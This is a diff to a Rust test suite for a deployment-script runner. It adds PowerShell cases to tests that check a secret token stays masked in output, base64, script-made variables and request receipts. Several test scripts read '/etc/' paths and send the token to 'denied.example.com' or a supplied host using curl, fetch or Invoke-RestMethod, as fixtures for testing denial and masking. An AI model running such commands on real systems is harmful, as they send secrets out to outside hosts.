@@ -37,6 +37,7 @@ fn a_secret_is_masked_on_standard_error() {
             "echo \"it is $(get_octopusvariable Token)!\" >&2\n",
             "import sys\nprint(f\"it is {get_octopusvariable('Token')}!\", file=sys.stderr)\n",
             "console.error(`it is ${getOctopusVariable('Token')}!`);\n",
+            "[Console]::Error.WriteLine(\"it is $($OctopusParameters['Token'])!\")\n",
         );
         masked(language, text).expect_in_stderr("it is ********!\n");
     }
@@ -49,6 +50,7 @@ fn a_secret_that_is_written_in_pieces_is_masked() {
             "t=$(get_octopusvariable Token); printf %s \"${t:0:7}\"; sleep 0.05; printf %s \"${t:7:4}\"; printf '%s\\n' \"${t:11}\"\n",
             "import sys\nfor character in get_octopusvariable('Token') + '\\n':\n    sys.stdout.write(character)\n    sys.stdout.flush()\n",
             "for (const character of getOctopusVariable('Token') + '\\n') process.stdout.write(character);\n",
+            "foreach ($character in ($OctopusParameters['Token'] + \"`n\").ToCharArray()) { Write-Host -NoNewline $character }\n",
         );
         masked(language, text).expect_stdout("********\n");
     }
@@ -61,6 +63,7 @@ fn a_secret_in_base64_is_masked_wherever_it_starts() {
             "t=$(get_octopusvariable Token)\nfor before in '' a ab abc; do printf '%s%s' \"$before\" \"$t\" | base64 -w 0; echo; done\n",
             "import base64\nt = get_octopusvariable('Token')\nfor before in ['', 'a', 'ab', 'abc']:\n    print(base64.b64encode((before + t).encode()).decode())\n",
             "const t = getOctopusVariable('Token');\nfor (const before of ['', 'a', 'ab', 'abc']) console.log(btoa(before + t));\n",
+            "foreach ($before in '', 'a', 'ab', 'abc') { [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($before + $OctopusParameters['Token'])) }\n",
         );
         // The middle of the value's base64 at each of the three alignments.
         let run = masked(language, text);
@@ -95,6 +98,7 @@ fn a_secret_is_masked_when_it_is_part_of_a_denial() {
             "t=$(get_octopusvariable Token); cat \"/etc/$t\"; curl -sS \"http://denied.example.com/$t?q=$t\"; true\n",
             "import urllib.request\nt = get_octopusvariable('Token')\nfor deed in [lambda: open(f'/etc/{t}'), lambda: urllib.request.urlopen(f'http://denied.example.com/{t}?q={t}')]:\n    try:\n        deed()\n    except OSError:\n        pass\n",
             "import fs from 'node:fs';\nconst t = getOctopusVariable('Token');\ntry { fs.readFileSync(`/etc/${t}`); } catch {}\ntry { await fetch(`http://denied.example.com/${t}?q=${t}`); } catch {}\n",
+            "$t = $OctopusParameters['Token']\ntry { Get-Content \"/etc/$t\" -ErrorAction Stop } catch { }\ntry { Invoke-RestMethod \"http://denied.example.com/${t}?q=$t\" } catch { }\n",
         );
         masked(language, text).expect_in_stderr("read /etc/");
     }
@@ -128,6 +132,7 @@ fn a_secret_that_a_script_makes_is_masked_from_then_on() {
             "v=made-by-the-script; set_octopusvariable Made $v -sensitive; echo \"it is $v\"\n",
             "v = 'made-by-the-script'\nset_octopusvariable('Made', v, True)\nprint('it is', v)\n",
             "const v = 'made-by-the-script';\nsetOctopusVariable('Made', v, { sensitive: true });\nconsole.log('it is', v);\n",
+            "$v = 'made-by-the-script'\nSet-OctopusVariable Made $v -Sensitive\nWrite-Host \"it is $v\"\n",
         );
         let run = script(language.file(), text).run();
         run.expect_code(0)
@@ -146,6 +151,7 @@ fn a_secret_in_the_path_of_a_granted_request_is_neither_in_the_receipt_nor_learn
             "curl -fsS \"$1/hook/$(get_octopusvariable Token)/send\"\n",
             "import sys, urllib.request\nurllib.request.urlopen(f\"{sys.argv[1]}/hook/{get_octopusvariable('Token')}/send\")\n",
             "await fetch(`${process.argv[2]}/hook/${getOctopusVariable('Token')}/send`);\n",
+            "$null = Invoke-RestMethod \"$($args[0])/hook/$($OctopusParameters['Token'])/send\"\n",
         );
         let flag = format!("Token={VALUE}");
         let run = script(language.file(), text)
